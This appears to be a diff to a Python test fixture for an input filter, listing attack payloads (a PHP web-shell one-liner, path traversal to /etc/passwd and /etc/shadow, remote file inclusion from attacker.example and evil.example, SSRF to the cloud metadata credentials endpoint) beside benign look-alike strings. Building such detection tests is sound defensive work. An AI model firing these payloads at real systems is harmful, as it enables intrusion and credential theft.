@@ -22,7 +22,7 @@ ATTACKS = {
                        "<?php system($_GET['c']); ?>", "eval(atob('YWxlcnQoMSk='))",
                        "java.lang.Runtime.getRuntime().exec('id')"],
     "path_traversal": ["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
-                       "....//....//etc/hosts", "/proc/self/environ", "C:\\Windows\\win.ini", "file:///etc/passwd"],
+                       "....//....//etc/hosts", "/proc/self/environ", "/var/task/handler.py", "C:\\Windows\\win.ini", "file:///etc/passwd"],
     "rfi": ["/index.php?page=http://attacker.example/shell.txt?", "include=ftp://evil.example/x.php%00"],
     "ssrf": ["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://2852039166/",
              "http://0xa9fea9fe/", "http://0251.0376.0251.0376/", "http://[::ffff:169.254.169.254]/",
@@ -49,7 +49,7 @@ ATTACKS = {
 
 BENIGN = [
     "O'Reilly", "bob's or alice's", "35% COTTON AND 65% POLYESTER", "select x from y where", "Tom & Jerry",
-    "I'd rather -- honestly -- not", "https://example.com/search?q=blue+shoes&page=2", "/var/task/handler.py",
+    "I'd rather -- honestly -- not", "https://example.com/search?q=blue+shoes&page=2", "tasks/handler.py",
     "uploads/2024/06/cat.jpg", "the cat sat on the mat", "user@example.com", "(555) 123-4567",
     "price >= 10 and price <= 20", "C'est la vie", "2 + 2 = 4", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>",
     "Traceback (most recent call last):\n  File \"/var/task/app.py\", line 3, in handler",
